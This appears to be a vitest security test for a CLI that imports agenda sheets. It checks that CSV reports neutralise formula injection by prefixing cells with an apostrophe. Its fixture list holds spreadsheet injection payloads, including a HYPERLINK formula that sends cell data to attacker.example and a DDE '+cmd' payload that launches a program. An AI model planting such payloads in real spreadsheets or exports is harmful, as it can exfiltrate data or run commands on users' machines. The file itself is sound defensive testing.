// A report opened in a spreadsheet program must never run a cell as a formula (CSV injection):
// names, ids and sheet names taken from a sheet that start with = + - @ (or a tab or CR, which
// some programs skip before looking) come back in the CSV report behind a leading apostrophe.
import { readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import * as XLSX from 'xlsx';
import { describe, expect, it } from 'vitest';
import { describeRun, runCli } from '../support/cli-process.js';
import { parseCsvReport, REPORT_COLUMNS, type CsvReportRow } from '../support/report-file.js';
import { tempDir } from '../support/temp-dir.js';

const FORMULA_START = /^[=+\-@\t\r]/;

/** [import id, title] pairs, each a formula a spreadsheet program would run. */
const HOSTILE: Array<[string, string]> = [
  ['=1+1', '=HYPERLINK("http://attacker.example/?q="&A1,"Open")'],
  ['+cmd', "+cmd|' /C calc'!A0"],
  ['-2+3', '-1+2 Opening talk'],
  ['@SUM(1)', '@SUM(A1:A9)'],
  ['\t=tab-id', '\t=1+1 tab title'],
  ['\r=cr-id', '\r=2+2 cr title'],
];

const HEADER = ['Import ID', 'Title', 'Date', 'Start', 'End'];

function hostileRows(): string[][] {
  return [
    ...HOSTILE.map(([id, title], i) => [id, title, '2027-05-10', `${9 + i}:00`, `${9 + i}:45`]),
    // An invalid row (its start is a formula, not a time): its message quotes the value.
    ['=bad-row', '=cmd()', '2027-05-10', '=NOW()', '10:00'],
  ];
}

function csvText(rows: string[][]): string {
  const cell = (value: string) => (/[",\r\n]/.test(value) ? `"${value.replaceAll('"', '""')}"` : value);
  return `${[HEADER, ...rows].map((cells) => cells.map(cell).join(',')).join('\r\n')}\r\n`;
}

/** Every text cell of the report is safe, and each hostile sheet value is defused, not dropped. */
function expectDefused(lines: CsvReportRow[], sheetName: string): void {
  for (const line of lines) {
    for (const column of REPORT_COLUMNS) expect(line[column], `${column} of ${JSON.stringify(line)}`).not.toMatch(FORMULA_START);
    expect(line.sheet).toBe(`'${sheetName}`);
  }
  for (const [id, title] of HOSTILE) {
    // The reader trims the tab or CR off a cell; what is left must still be defused.
    const line = lines.find((l) => l.import_id.replace(/^'/, '') === id.trim());
    expect(line, id).toBeDefined();
    expect(line?.import_id).toBe(`'${id.trim()}`);
    expect(line?.name).toBe(`'${title.trim()}`);
  }
  const invalid = lines.find((l) => l.import_id === "'=bad-row");
  expect(invalid?.action).toBe('invalid');
  expect(invalid?.name).toBe("'=cmd()");
}

describe('CSV report cells a spreadsheet would run as formulas', () => {
  const dir = tempDir('security-formula');

  it('are neutralised in the report of validate (CSV sheet) and of a real import', async () => {
    const sheetName = '=agenda.csv';
    const sheet = join(dir, sheetName);
    writeFileSync(sheet, csvText(hostileRows()));

    const validated = await runCli(['validate', sheet, '--timezone', 'America/New_York', '--report', join(dir, 'validate.csv')]);
    expect(validated.code, describeRun(validated)).toBe(1);
    expectDefused(parseCsvReport(readFileSync(join(dir, 'validate.csv'), 'utf8')), sheetName);

    const imported = await runCli(['import', sheet, '--guide', '1', '--sandbox', '--rate', '500', '--report', join(dir, 'import.csv')]);
    expect(imported.code, describeRun(imported)).toBe(1);
    const lines = parseCsvReport(readFileSync(join(dir, 'import.csv'), 'utf8'));
    expectDefused(lines, sheetName);
    expect(lines.filter((l) => l.outcome === 'done')).toHaveLength(HOSTILE.length);
  }, 60_000);

  it('are neutralised for an XLSX sheet, including its sheet name', async () => {
    const book = XLSX.utils.book_new();
    XLSX.utils.book_append_sheet(book, XLSX.utils.aoa_to_sheet([HEADER, ...hostileRows()]), '@Agenda');
    const sheet = join(dir, 'agenda.xlsx');
    writeFileSync(sheet, XLSX.write(book, { type: 'buffer', bookType: 'xlsx' }) as Buffer);

    const validated = await runCli(['validate', sheet, '--timezone', 'America/New_York', '--report', join(dir, 'xlsx.csv')]);
    expect(validated.code, describeRun(validated)).toBe(1);
    expectDefused(parseCsvReport(readFileSync(join(dir, 'xlsx.csv'), 'utf8')), '@Agenda');
  }, 60_000);
});
